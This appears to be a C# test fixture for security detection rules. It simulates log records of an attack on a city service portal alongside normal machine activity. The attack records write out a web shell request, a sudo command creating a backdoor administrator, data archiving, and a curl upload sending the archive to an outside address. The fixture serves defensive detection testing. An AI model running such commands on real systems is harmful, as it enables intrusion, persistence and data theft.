using HaiPhongSoc.Detection.Cases;

namespace HaiPhongSoc.Rules.Tests.Rules;

/// <summary>One attack on the public-service portal, as the logs of its machines show it, and the ordinary life around it.</summary>
internal static class AttackRecords
{
    public const string Upload = """<190>1 {iso} web-dvc-02 nginx 811 - - 203.0.113.77 - - [{clf}] "POST /hoso/dinhkem HTTP/1.1" 200 187 "https://dichvucong.haiphong.example/hoso/moi" "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0" """;

    public const string WebShell = """<190>1 {iso} web-dvc-02 nginx 811 - - 203.0.113.77 - - [{clf}] "GET /uploads/anh_the.php?cmd=whoami HTTP/1.1" 200 61 "-" "curl/8.14.1" """;

    private const string Failed = "<86>{bsd} bastion-dvc-01 sshd[22114]: Failed password for qtht from 203.0.113.77 port 5{n} ssh2";
    private const string Accepted = "<86>{bsd} bastion-dvc-01 sshd[22114]: Accepted password for qtht from 203.0.113.77 port 52344 ssh2";
    private const string Sudo = "<86>{bsd} web-dvc-02 sudo:     qtht : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=";

    /// <summary>The steps, each with the titles of the rules that must hit on it: no more and no fewer.</summary>
    public static IReadOnlyList<(string Step, SequenceStep Records, string[] Hits)> Steps { get; } =
    [
        ("guessing", At(0, "linux-auth", Failed, 40, 3), ["SSH Passwords Guessed From One Address"]),
        ("signed in", At(125, "linux-auth", Accepted), ["SSH Password Guessed, Then Signed In"]),
        ("upload", At(180, "web-combined", Upload), []),
        ("web shell", At(190, "web-combined", WebShell), ["Command to a Script on the Web Server", "Script Answers From an Upload Folder", "Upload, Then a Script Answers From the Upload Folder"]),
        ("new administrator, the command", At(240, "linux-auth", Sudo + "/usr/sbin/useradd -m -G sudo hotro2"), ["Command That Makes an Administrator"]),
        ("new administrator, the account", At(241, "linux-auth", "<86>{bsd} web-dvc-02 useradd[40213]: new user: name=hotro2, UID=1013, GID=1013, home=/home/hotro2, shell=/bin/bash, from=/dev/pts/1"), []),
        ("new administrator, the group", At(242, "linux-auth", "<86>{bsd} web-dvc-02 useradd[40213]: add 'hotro2' to group 'sudo'"), ["Account Added to an Administrators' Group"]),
        ("packed", At(300, "linux-auth", Sudo + "/usr/bin/tar czf /tmp/.b.tgz /var/lib/dvc/hoso"), ["Data Packed Into a Temporary Folder"]),
        ("sent out", At(330, "linux-auth", Sudo + "/usr/bin/curl -T /tmp/.b.tgz https://203.0.113.99/u"), ["File Sent to an Outside Address From the Command Line", "Data Packed, Then a File Sent Out"]),
    ];

    public static IReadOnlyList<RawRecord> All => Timeline.Expand(Steps.Select(step => step.Records));

    /// <summary>What the same machines write all day.</summary>
    public static IReadOnlyList<RawRecord> OrdinaryLife => Timeline.Expand(
    [
        At(0, "linux-auth", "<86>{bsd} web-dvc-01 sshd[901]: Failed password for nvhai from 10.20.2.14 port 4{n} ssh2", 4, 200),
        At(9, "linux-auth", "<86>{bsd} web-dvc-01 sshd[902]: Accepted password for nvhai from 10.20.2.14 port 40512 ssh2"),
        At(11, "linux-auth", "<86>{bsd} lgsp-gw-01 sshd[903]: Accepted publickey for ttlan from 10.20.2.15 port 40513 ssh2: ED25519 SHA256:Q0xVg2m3l0pJ7cT1o9vYb4zXn8wKe5rUa6sDf2hGk1M", 5, 60),
        At(12, "linux-auth", "<86>{bsd} web-dvc-02 sudo:    dqminh : TTY=pts/0 ; PWD=/home/dqminh ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx", 5, 60),
        At(13, "linux-auth", "<86>{bsd} hssk-app-01 CRON[8812]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", 10, 30),
        At(14, "linux-auth", "<86>{bsd} ioc-app-01 systemd-logind[612]: New session 4{n} of user pthuong.", 10, 30),
        At(15, "web-combined", """<190>1 {iso} web-dvc-01 nginx 811 - - 198.51.100.101 - - [{clf}] "GET /hoso/tracuu?ma=HP-2026-118{n} HTTP/1.1" 200 5210 "-" "Mozilla/5.0 (Linux; Android 16; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Mobile Safari/537.36" """, 50, 5),
        At(16, "web-combined", """<190>1 {iso} web-dvc-01 nginx 811 - - 198.51.100.102 - - [{clf}] "POST /hoso/dinhkem HTTP/1.1" 200 187 "https://dichvucong.haiphong.example/hoso/moi" "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0" """, 3, 90),
        At(17, "web-combined", """<190>1 {iso} web-dvc-01 nginx 811 - - 198.51.100.102 - - [{clf}] "GET /uploads/2026/11/cccd_{n}.jpg HTTP/1.1" 200 80211 "https://dichvucong.haiphong.example/hoso/moi" "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0" """, 3, 90),
        At(18, "web-combined", """<190>1 {iso} web-dvc-01 nginx 811 - - 198.51.100.103 - - [{clf}] "GET /anh/{n}.webp HTTP/1.1" 404 153 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)" """, 20, 8),
        At(19, "windows-json", """{"EventTime":"{utc}","Hostname":"dc-hp-01","Channel":"Security","SourceName":"Microsoft-Windows-Security-Auditing","EventID":4625,"TargetUserName":"vdtung","TargetDomainName":"HAIPHONG","LogonType":"3","IpAddress":"10.20.10.44","Status":"0xc000006d"}""", 3, 20),
        At(95, "windows-json", """{"EventTime":"{utc}","Hostname":"dc-hp-01","Channel":"Security","SourceName":"Microsoft-Windows-Security-Auditing","EventID":4624,"TargetUserName":"vdtung","TargetDomainName":"HAIPHONG","LogonType":"3","IpAddress":"10.20.10.44","AuthenticationPackageName":"Kerberos"}""", 9, 20),
    ]);

    private static SequenceStep At(int seconds, string definition, string template, int times = 1, int every = 0) =>
        new(definition, TimeSpan.FromSeconds(seconds), times, TimeSpan.FromSeconds(every), template.TrimEnd());
}
